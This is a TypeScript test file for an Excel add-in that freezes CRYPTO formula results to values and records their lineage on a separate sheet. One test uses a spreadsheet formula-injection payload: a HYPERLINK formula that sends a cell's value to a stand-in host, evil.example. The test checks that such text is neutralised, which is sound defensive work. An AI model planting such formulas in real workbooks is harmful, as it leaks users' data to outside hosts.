import { freezeToValues } from "../../src/excel/freeze";
import { LINEAGE_HEADERS } from "../../src/excel/lineage-sheet";
import type { FrozenRange } from "../../src/excel/port";
import type { Lineage } from "../../src/functions/lineage";
import type { ExcelRun, Supports } from "../../src/excel/office-host";
import { mock, runOn, type Mock } from "./office-mocks";

const METRIC = '=CRYPTO.METRIC("aave","fees","2024-01-01","2024-01-02")';
const NOTE = "Cryptometrics values as of 2025-06-15 12:00:00 UTC";

/**
 * A selection A1:B2 holding: A1 a CRYPTO.METRIC spilling over A1:B3 (dates as formatted numbers), B1 a
 * SUM (must stay), A2 a cell of A1's spill, B2 a lower-case crypto.value with a plain result.
 */
function workbook(options: { noteFails?: boolean; text?: string; lineageSheet?: boolean } = {}) {
  const text = options.text ?? "=looks like a formula";
  const notes: [string, string][] = [];
  const comments: [string, string][] = [];
  const lineage = lineageSheetMock();
  const context = mock({
    workbook: {
      worksheets: lineage.worksheets,
      selection: {
        address: "Sheet1!A1:B2",
        formulas: [
          [METRIC, "=SUM(C1:C3)"],
          [METRIC, '=crypto.value("aave","fees")'],
        ],
        cells: {
          c00: {
            address: "Sheet1!A1",
            formulas: [[METRIC]],
            values: [["Date"]],
            numberFormat: [["General"]],
            valuesAsJson: [[{ type: "String", basicValue: "Date" }]],
            parent: { address: "" },
            spill: {
              address: "Sheet1!A1:B3",
              values: [
                ["Date", "fees"],
                [45292, 1200.5],
                [45293, text],
              ],
              numberFormat: [
                ["General", "General"],
                ["General", "#,##0"],
                ["General", "#,##0"],
              ],
              valuesAsJson: [
                [
                  { type: "String", basicValue: "Date" },
                  { type: "String", basicValue: "fees" },
                ],
                [
                  { type: "Double", basicValue: 45292, numberFormat: "yyyy-mm-dd" },
                  { type: "Double", basicValue: 1200.5 },
                ],
                [
                  { type: "Double", basicValue: 45293, numberFormat: "yyyy-mm-dd" },
                  { type: "String", basicValue: text },
                ],
              ],
            },
            getSpillParentOrNullObject(this: { parent: unknown }) {
              return this.parent;
            },
            getSpillingToRangeOrNullObject(this: { spill: unknown }) {
              return this.spill;
            },
          },
          c10: {
            address: "Sheet1!A2",
            parent: { address: "Sheet1!A1" },
            getSpillParentOrNullObject(this: { parent: unknown }) {
              return this.parent;
            },
          },
          c11: {
            address: "Sheet1!B2",
            formulas: [['=crypto.value("aave","fees")']],
            values: [[98765.4]],
            numberFormat: [["#,##0.0"]],
            valuesAsJson: [[{ type: "Double", basicValue: 98765.4 }]],
            parent: { address: "" },
            // A null object: loadable, empty.
            spill: { address: "", values: [[]], numberFormat: [[]], valuesAsJson: [[]] },
            getSpillParentOrNullObject(this: { parent: unknown }) {
              return this.parent;
            },
            getSpillingToRangeOrNullObject(this: { spill: unknown }) {
              return this.spill;
            },
          },
        },
        getCell(this: { cells: Record<string, unknown> }, row: number, column: number) {
          const cell = this.cells[`c${row}${column}`];
          if (!cell)
            throw new Error(
              `the module asked for a cell it had no reason to touch: ${row},${column}`
            );
          return cell;
        },
      },
      getSelectedRange(this: { selection: unknown }) {
        return this.selection;
      },
      notes: {
        add(cell: { address: string }, text: string) {
          if (options.noteFails) throw new Error("The cell already has a note.");
          notes.push([cell.address, text]);
        },
      },
      comments: {
        add(cell: { address: string }, text: string) {
          comments.push([cell.address, text]);
        },
      },
    },
  });
  const selection = (context.workbook as Mock).selection as Mock;
  const cells = selection.cells as Record<string, Mock>;
  // Null objects as Excel reports them after a sync.
  selection.isNullObject = false;
  (cells.c00.parent as Mock).isNullObject = true;
  (cells.c00.spill as Mock).isNullObject = false;
  (cells.c10.parent as Mock).isNullObject = false;
  (cells.c11.parent as Mock).isNullObject = true;
  (cells.c11.spill as Mock).isNullObject = true;
  lineage.settle(context, options.lineageSheet ?? false);
  return { context, cells, notes, comments, lineage };
}

/** The workbook's worksheets as the lineage sheet meets them: a "Lineage" sheet present or not. */
function lineageSheetMock() {
  const writes: {
    at: [number, number, number, number];
    values?: unknown;
    numberFormat?: unknown;
  }[] = [];
  const added: string[] = [];
  const frozenRows: number[] = [];
  const sheet = {
    used: { rowIndex: 0, rowCount: 4 },
    getUsedRangeOrNullObject(this: { used: unknown }) {
      return this.used;
    },
    getRangeByIndexes(row: number, column: number, rows: number, columns: number) {
      const range = {
        at: [row, column, rows, columns] as [number, number, number, number],
        format: { font: { bold: false } },
      };
      writes.push(range);
      return range;
    },
    freezePanes: {
      freezeRows(n: number) {
        frozenRows.push(n);
      },
    },
  };
  const worksheets = {
    existing: sheet,
    getItemOrNullObject(this: { existing: unknown }, name: string) {
      expect(name).toBe("Lineage");
      return this.existing;
    },
    add(name: string) {
      added.push(name);
      return sheet;
    },
  };
  return {
    worksheets,
    writes,
    added,
    frozenRows,
    /** After the mock is built: whether the workbook already has its lineage sheet. */
    settle(context: Mock, present: boolean) {
      const ws = (context.workbook as Mock).worksheets as Mock;
      (ws.existing as Mock).isNullObject = !present;
      ((ws.existing as Mock).used as Mock).isNullObject = false;
    },
  };
}

const all: Supports = () => true;

const FROZEN_AT = Date.UTC(2026, 10, 24, 9, 31, 5);

/** A lineage as src/functions/lineage.ts gives it, for each frozen range. */
function lineageOf(frozen: readonly FrozenRange[]): Promise<Lineage[]> {
  return Promise.resolve(
    frozen.map((f, i) => ({
      range: f.range,
      formula: f.formula,
      vintage: "2026-11-24T09:30:12Z",
      service: "https://gateway.example",
      via: "team gateway" as const,
      metrics:
        i === 0
          ? [
              { projectId: "aave", metricId: "fees", definition: "=fees paid", source: "On-chain" },
              { projectId: "aave", metricId: "revenue", problem: "its detail could not be read" },
            ]
          : [],
    }))
  );
}

test("adds each frozen range's lineage to a new Lineage sheet: formula, vintage, service, definitions", async () => {
  const wb = workbook();
  const seen: FrozenRange[][] = [];
  const result = await freezeToValues(
    {
      run: runOn(wb.context),
      supports: all,
      now: () => FROZEN_AT,
      lineage: (frozen) => {
        seen.push([...frozen]);
        return lineageOf(frozen);
      },
    },
    "selection",
    NOTE
  );
  expect(result).toMatchObject({ formulas: 2, lineageSheet: "Lineage" });
  // The formulas as they were before their values replaced them.
  expect(seen).toEqual([
    [
      { range: "Sheet1!A1:B3", anchor: "Sheet1!A1", formula: METRIC },
      { range: "Sheet1!B2", anchor: "Sheet1!B2", formula: '=crypto.value("aave","fees")' },
    ],
  ]);
  expect(wb.lineage.added).toEqual(["Lineage"]);
  expect(wb.lineage.frozenRows).toEqual([1]);
  const [header, rows] = wb.lineage.writes;
  expect(header.values).toEqual([[...LINEAGE_HEADERS]]);
  expect(rows.at).toEqual([1, 0, 3, LINEAGE_HEADERS.length]);
  expect(rows.values).toEqual([
    [
      "2026-11-24T09:31:05Z",
      "Sheet1!A1:B3",
      `'${METRIC}`,
      "2026-11-24T09:30:12Z",
      "https://gateway.example",
      "team gateway",
      "aave",
      "",
      "fees",
      // Text from the service stays text.
      "'=fees paid",
      "On-chain",
      "",
    ],
    [
      "2026-11-24T09:31:05Z",
      "Sheet1!A1:B3",
      `'${METRIC}`,
      "2026-11-24T09:30:12Z",
      "https://gateway.example",
      "team gateway",
      "aave",
      "",
      "revenue",
      "",
      "",
      "its detail could not be read",
    ],
    [
      "2026-11-24T09:31:05Z",
      "Sheet1!B2",
      `'=crypto.value("aave","fees")`,
      "2026-11-24T09:30:12Z",
      "https://gateway.example",
      "team gateway",
      "",
      "",
      "",
      "",
      "",
      "no project or metric could be read from its arguments",
    ],
  ]);
  // Written as text: a vintage or an id that looks like a date or a number stays as written.
  expect(rows.numberFormat).toEqual(
    rows.values && (rows.values as string[][]).map((r) => r.map(() => "@"))
  );
});

test("adds the lineage below what an existing Lineage sheet holds", async () => {
  const wb = workbook({ lineageSheet: true });
  await freezeToValues(
    { run: runOn(wb.context), supports: all, now: () => FROZEN_AT, lineage: lineageOf },
    "selection",
    NOTE
  );
  expect(wb.lineage.added).toEqual([]);
  expect(wb.lineage.writes.map((w) => w.at)).toEqual([[4, 0, 3, LINEAGE_HEADERS.length]]);
});

test("a lineage that cannot be read is reported; the values are frozen all the same", async () => {
  const wb = workbook();
  const result = await freezeToValues(
    {
      run: runOn(wb.context),
      supports: all,
      lineage: () => Promise.reject(new Error("the service could not be reached")),
    },
    "selection",
    NOTE
  );
  expect(result).toMatchObject({
    formulas: 2,
    lineageProblem: "no lineage could be written (the service could not be reached)",
  });
  expect(result.lineageSheet).toBeUndefined();
  expect((wb.cells.c00.spill as Mock).values).toEqual(expect.any(Array));
});

test("replaces CRYPTO formulas (whole spills, any case) by their values and keeps other formulas", async () => {
  const wb = workbook();
  const result = await freezeToValues({ run: runOn(wb.context), supports: all }, "selection", NOTE);
  expect(result).toEqual({
    ranges: ["Sheet1!A1:B3", "Sheet1!B2"],
    formulas: 2,
    noteAddress: "Sheet1!A1",
  });
  const spill = wb.cells.c00.spill as Mock;
  expect(spill.values).toEqual([
    ["Date", "fees"],
    [45292, 1200.5],
    [45293, "'=looks like a formula"],
  ]);
  // Dates stay dates: the number format the result carried is written to the cell.
  expect(spill.numberFormat).toEqual([
    ["General", "General"],
    ["yyyy-mm-dd", "#,##0"],
    ["yyyy-mm-dd", "#,##0"],
  ]);
  expect(wb.cells.c11.values).toEqual([[98765.4]]);
  expect(wb.cells.c11.numberFormat).toEqual([["#,##0.0"]]);
  // A1's own value was not written separately: its spill was written as one block.
  expect(wb.cells.c00.values).toEqual([["Date"]]);
  expect(wb.notes).toEqual([["Sheet1!A1", NOTE]]);
});

test.each(["=", "+", "-", "@", "\t", "\r"])(
  "writes a result's text starting with %j back as text, and its numbers as numbers",
  async (lead) => {
    const text = `${lead}HYPERLINK("http://evil.example/?"&A1,"x")`;
    const wb = workbook({ text });
    await freezeToValues({ run: runOn(wb.context), supports: all }, "selection", NOTE);
    expect((wb.cells.c00.spill as Mock).values).toEqual([
      ["Date", "fees"],
      [45292, 1200.5],
      [45293, `'${text}`],
    ]);
    expect(wb.cells.c11.values).toEqual([[98765.4]]);
  }
);

test("an Excel without notes gets the 'as of' text as a comment", async () => {
  const wb = workbook();
  const supports: Supports = (_set, version) => version !== "1.18";
  const result = await freezeToValues({ run: runOn(wb.context), supports }, "selection", NOTE);
  expect(result.noteAddress).toBe("Sheet1!A1");
  expect(wb.comments).toEqual([["Sheet1!A1", NOTE]]);
  expect(wb.notes).toEqual([]);
});

test("a note that cannot be added is reported; the values are frozen anyway", async () => {
  const wb = workbook({ noteFails: true });
  const result = await freezeToValues({ run: runOn(wb.context), supports: all }, "selection", NOTE);
  expect(result.formulas).toBe(2);
  expect(result.noteAddress).toBeUndefined();
  expect(result.noteProblem).toMatch(
    /no note could be added at Sheet1!A1 \(The cell already has a note\.\)/
  );
  expect((wb.cells.c00.spill as Mock).values).toEqual(expect.any(Array));
});

test("without formatted values (before ExcelApi 1.16) the cells keep their own number formats", async () => {
  const wb = workbook();
  const supports: Supports = (_set, version) => version !== "1.16";
  await freezeToValues({ run: runOn(wb.context), supports }, "selection", NOTE);
  expect((wb.cells.c00.spill as Mock).numberFormat).toEqual([
    ["General", "General"],
    ["General", "#,##0"],
    ["General", "#,##0"],
  ]);
});

test("an Excel without dynamic arrays is told so, and the workbook is not touched", async () => {
  const wb = workbook();
  let batches = 0;
  const run: ExcelRun = (batch) => {
    batches += 1;
    return runOn(wb.context)(batch);
  };
  const supports: Supports = (_set, version) => version !== "1.12";
  await expect(freezeToValues({ run, supports }, "selection", NOTE)).rejects.toThrow(
    /needs a version of Excel with dynamic arrays \(ExcelApi 1\.12\)/
  );
  expect(batches).toBe(0);
});

test("a sheet with nothing in it, or no CRYPTO formula, is left alone", async () => {
  const empty = mock({
    workbook: {
      worksheets: {
        sheet: {
          used: { address: "", formulas: [[""]] },
          getUsedRangeOrNullObject(this: { used: unknown }) {
            return this.used;
          },
        },
        getActiveWorksheet(this: { sheet: unknown }) {
          return this.sheet;
        },
      },
    },
  });
  const used = (((empty.workbook as Mock).worksheets as Mock).sheet as Mock).used as Mock;
  used.isNullObject = true;
  expect(await freezeToValues({ run: runOn(empty), supports: all }, "sheet", NOTE)).toEqual({
    ranges: [],
    formulas: 0,
  });
  used.isNullObject = false;
  (used as unknown as { formulas: unknown }).formulas = [["=SUM(A1:A2)", 12]];
  expect(await freezeToValues({ run: runOn(empty), supports: all }, "sheet", NOTE)).toEqual({
    ranges: [],
    formulas: 0,
  });
});
